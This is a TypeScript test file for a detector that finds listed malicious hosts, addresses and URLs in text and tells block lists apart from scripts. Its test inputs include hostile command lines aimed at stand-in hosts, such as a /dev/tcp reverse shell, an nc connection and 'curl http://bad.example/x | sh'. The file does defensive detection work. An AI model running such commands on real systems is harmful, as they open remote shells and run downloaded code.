import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findLocations, isInList } from './find-locations.ts';
import { type ListedIndicator, parseIndicator } from './indicator.ts';
import { hostOf } from './indicator-list.ts';

const locations = new Map<string, ListedIndicator[]>();
for (const text of [
  'bad.example',
  '192.0.2.1:3333',
  '198.51.100.7',
  'http://files.example/a.sh',
  '2001:db8::7',
  '[2001:db8::9]:80',
]) {
  const parsed = parseIndicator(text);
  assert.ok(parsed, text);
  const indicator = { ...parsed, at: 'list' };
  locations.set(hostOf(indicator), [indicator]);
}

test('listed names, what is below them, addresses and URLs are found', () => {
  for (const text of [
    'curl http://bad.example/x',
    'POOL.BAD.EXAMPLE:3333',
    'nc 192.0.2.1 3333',
    'exec 3<>/dev/tcp/192.0.2.1/3333',
    's.connect(("192.0.2.1", 3333))',
    'http://192.0.2.1:3333/',
    'ping 198.51.100.7.',
    'wget -q files.example/a.sh -O-',
    'ssh root@2001:db8::7',
    'curl http://[2001:db8::9]:80/',
  ]) {
    assert.equal(findLocations(text, locations).length, 1, text);
  }
});

test('what only looks like them is not', () => {
  for (const text of [
    'notbad.example',
    'bad.example.org',
    'bad-example',
    '192.0.2.1:33330',
    '192.0.2.1',
    '1192.0.2.1:3333',
    '198.51.100.70',
    '198.51.100.7.4',
    'http://files.example/b.sh',
    'http://files.example/',
    '2001:db8::70',
  ]) {
    assert.deepEqual(findLocations(text, locations), [], text);
  }
});

test('lists are told from programs', () => {
  const of = (lines: readonly string[]): boolean => isInList(lines.join('\n'), lines.join('\n').indexOf('bad.example'));
  assert.ok(of(['0.0.0.0 a.example', '0.0.0.0 b.example', '0.0.0.0 bad.example', '0.0.0.0 c.example']));
  assert.ok(of(['||a.example^', '||bad.example^', '||c.example^', '||d.example^']));
  assert.ok(of(["  'a.example',", "  'bad.example',", "  'c.example',", "  'd.example',"]));
  assert.ok(!of(['#!/bin/sh', 'curl http://bad.example/x | sh', 'exit 0']));
  assert.ok(!of(['bad.example']));
});

test('long and hostile texts take linear time', () => {
  const start = performance.now();
  for (const unit of ['a.', 'a', '1.1.1.', ':', 'a:b:', '-', 'bad.example'])
    findLocations(unit.repeat(400_000), locations);
  isInList('a.'.repeat(100_000), 100_000);
  isInList('\n0.0.0.0 '.repeat(100_000), 100_000);
  assert.ok(performance.now() - start < 20_000);
});
